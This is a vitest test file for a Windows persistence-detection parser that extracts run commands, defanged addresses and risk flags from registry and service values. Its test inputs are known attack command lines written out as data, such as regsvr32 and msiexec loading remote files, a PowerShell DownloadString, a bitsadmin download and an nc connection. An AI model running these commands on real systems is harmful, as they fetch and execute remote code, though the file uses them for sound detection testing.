import { describe, expect, it } from 'vitest';
import { commandFacts, type Payload } from '../../functions/alert/detection/payload/index.ts';
import type { PayloadForm } from '../../functions/alert/ruleset/index.ts';
import { payloadOf } from './payload-of.ts';

/** Program, file that is really run, and export of each command; the one that starts it where it is not Windows. */
const shown = (payload: Payload) =>
  payload.commands.map(({ program, file, export: name, startedBy }) =>
    [startedBy === null ? '' : `${startedBy}>`, program, ' ', file, name === null ? '' : `!${name}`].join(''),
  );

describe('what Windows runs', () => {
  const rows: [data: string | readonly string[], commands: readonly string[], form?: PayloadForm][] = [
    ['rundll32.exe a.dll, DllMain', ['rundll32.exe a.dll!DllMain']],
    ['rundll32 -sta {00000000-0000} /localserver a.dll,b', ['rundll32.exe a.dll!b']],
    ['rundll32 "C:\\A B\\c.dll",#1 x', ['rundll32.exe C:\\A B\\c.dll!#1']],
    [
      '%windir%\\System32\\rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication "',
      ['rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication "'],
    ],
    ['regsvr32 /s /i:http://192.0.2.1/a.sct scrobj.dll', ['regsvr32.exe http://192.0.2.1/a.sct']],
    ['mshta "C:\\x y\\a.hta" 1', ['mshta.exe C:\\x y\\a.hta']],
    ['msiexec /q /i http://192.0.2.1/a.msi', ['msiexec.exe http://192.0.2.1/a.msi']],
    ['msiexec /qn /iC:\\a.msi', ['msiexec.exe C:\\a.msi']],
    ['wscript.exe //B "C:\\x y\\a.vbs" 1', ['wscript.exe C:\\x y\\a.vbs']],
    ['powershell -w hidden -ep bypass -f "C:\\x y\\a.ps1" 1', ['powershell.exe C:\\x y\\a.ps1']],
    ['powershell.exe -nop -c "Get-Date"', ['powershell.exe powershell.exe']],
    [
      'cmd /c "start "" /min "C:\\A B\\c.exe" & echo a| d.bat"',
      ['cmd.exe cmd.exe', '0>c.exe C:\\A B\\c.exe', '0>d.bat d.bat'],
    ],
    [
      'C:\\Windows\\System32\\cmd /d /q /c p^owershell -file a.ps1',
      ['cmd.exe C:\\Windows\\System32\\cmd.exe', '0>powershell.exe a.ps1'],
    ],
    [
      'if exist C:\\a.bat call C:\\a.bat&doskey x=y',
      ['a.bat C:\\a.bat', 'doskey.exe doskey.exe'],
      'cmd-line',
    ],
    ['conhost --headless wscript C:\\a.js', ['conhost.exe conhost.exe', '0>wscript.exe C:\\a.js']],
    ['C:\\Program Files\\A B\\c d.exe /x', ['c d.exe C:\\Program Files\\A B\\c d.exe'], 'service-program'],
    [
      '\\SystemRoot\\System32\\drivers\\x.sys',
      ['x.sys C:\\Windows\\System32\\drivers\\x.sys'],
      'service-program',
    ],
    ['\\??\\C:\\a\\x.sys', ['x.sys C:\\a\\x.sys'], 'service-program'],
    [
      'system32\\svchost.exe -k netsvcs',
      ['svchost.exe C:\\Windows\\system32\\svchost.exe'],
      'service-program',
    ],
    ['%SystemRoot%\\System32\\a.dll', ['a.dll C:\\Windows\\System32\\a.dll'], 'dll'],
    ['"evil.exe",explorer.exe', ['evil.exe evil.exe', 'explorer.exe explorer.exe'], 'shell'],
    ['C:\\a.exe C:\\b.exe,c', ['a.exe C:\\a.exe', 'b.exe C:\\b.exe', 'c.exe c.exe'], 'list'],
    ['C:\\a.dll|Run|1', ['a.dll C:\\a.dll!Run'], 'runonceex'],
    ['||C:\\a.exe b|c', ['a.exe C:\\a.exe'], 'runonceex'],
    [
      ['C:\\a.exe', '', 'C:\\b.exe 1'],
      ['a.exe C:\\a.exe', 'b.exe C:\\b.exe'],
    ],
    ['"C:\\unclosed quote\\a.exe -x', ['a.exe -x C:\\unclosed quote\\a.exe -x']],
    ['just words', [], 'unknown'],
    ['C:\\a.exe', [], 'none'],
    [['', '  '], []],
  ];
  it.each(rows)('%j: %j', (data, commands, form) => expect(shown(payloadOf(data, form))).toEqual(commands));

  it('gives every file of an unquoted path in the order Windows tries them', () => {
    const [command] = payloadOf('C:\\Program Files\\A B\\c.exe /x').commands;
    expect(command!.candidates).toEqual([
      'C:\\Program.exe',
      'C:\\Program Files\\A.exe',
      'C:\\Program Files\\A B\\c.exe',
    ]);
    expect(command!.isCertain).toBe(false);
  });
  it('keeps what was written beside its meaning, and expands nothing that may differ', () => {
    const [one, two] = payloadOf(['%ProgramFiles%\\a.exe', '%APPDATA%\\a.exe']).commands;
    expect([one!.original, one!.path, two!.path]).toEqual([
      '%ProgramFiles%\\a.exe',
      'C:\\Program Files\\a.exe',
      '%APPDATA%\\a.exe',
    ]);
  });
  it.each([
    [
      'Userinit',
      'Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon',
      'C:\\Windows\\system32\\userinit.exe,C:\\a.exe,',
      2,
    ],
    ['1', 'Software\\Microsoft\\Windows\\CurrentVersion\\RunOnceEx\\0001\\Depend', 'C:\\a.dll', 1],
    ['Title', 'Software\\Microsoft\\Windows\\CurrentVersion\\RunOnceEx', 'Setup', 0],
  ])('reads %s by its place', (value, key, data, count) => {
    const form = value === 'Userinit' ? 'command' : 'runonceex';
    expect(payloadOf(data, form, { key, value }).commands).toHaveLength(count);
  });
  it('runs nothing of a number', () => {
    const payload = payloadOf('1', 'command', { type: 'REG_DWORD' });
    expect(payload).toMatchObject({ isCommand: false, commands: [] });
  });
});

describe('addresses', () => {
  const rows: readonly (readonly [text: string, defanged: readonly string[]])[] = [
    [
      "(New-Object Net.WebClient).DownloadString('http://10.10.10.5/n.ps1')",
      ['hxxp://10[.]10[.]10[.]5/n.ps1'],
    ],
    ['ping evil.example.com, srv.corp.net:8443', ['evil[.]example[.]com', 'srv[.]corp[.]net']],
    ['\\\\192.0.2.4\\share\\a.dll', ['\\\\192[.]0[.]2[.]4\\share\\a[.]dll']],
    ['cscript //B //T:10 //srv/share/a.js', ['//srv/share/a[.]js']],
    ['x [2001:db8::1] 2001:db8::2 ::1', ['2001[:]db8[:][:]1', '2001[:]db8[:][:]2']],
    ['https://[2001:db8::1]:8443/a', ['hxxps://[2001:db8::1]:8443/a']],
    ['nc 192.0.2.9 443 1.2.3 1.2.3.4.5 999.1.1.1', ['192[.]0[.]2[.]9']],
    [
      'C:\\Users\\JOHN~1.GUS\\x.exe System.Net.WebClient wscript.shell a.ps1 run.py lib.so.exe v1.0.2 command.com',
      [],
    ],
    ['bitsadmin /transfer x https://a.example/x.exe %temp%\\x.exe', ['hxxps://a[.]example/x.exe']],
  ];
  it.each(rows)('%s', (text, defanged) =>
    expect(payloadOf(text).addresses.map(address => address.defanged)).toEqual(defanged),
  );
});

describe('facts of the command', () => {
  const rows: readonly (readonly [data: string, program: string | null, flags: string])[] = [
    ['C:\\Users\\Public\\up.exe -s', 'C:\\Users\\Public\\up.exe', 'writable'],
    ['"C:\\Users\\ann\\AppData\\Roaming\\a.exe"', 'C:\\Users\\ann\\AppData\\Roaming\\a.exe', 'writable'],
    ['C:\\Program Files\\A B\\x.exe /quiet', null, ''],
    ['C:\\ProgramData\\..\\Windows\\x.exe', 'C:\\ProgramData\\..\\Windows\\x.exe', ''],
    ['\\\\evil\\share\\x.exe', '\\\\evil\\share\\x.exe', 'remote'],
    ['rundll32 \\\\evil@SSL\\dav\\x.dll,A', null, 'remote'],
    ['\\\\?\\C:\\x.exe', null, 'remote'],
    ['//evil/share/x.exe', null, 'remote'],
    ['wscript //B //E:jscript "C:\\Users\\Public\\a.txt" //Nologo', null, 'writable'],
    ['C:\\a.exe --url https://evil.example/a', 'C:\\a.exe', ''],
    ['%TEMP%\\a.exe', null, 'writable'],
  ];
  it.each(rows)('%s: %s (%s)', (data, program, flags) => {
    const facts = commandFacts(payloadOf(data), [data]);
    const set = [facts.isRemote && 'remote', facts.isUserWritable && 'writable'].filter(Boolean).join(' ');
    expect([facts.program, set]).toEqual([program, flags]);
  });
});
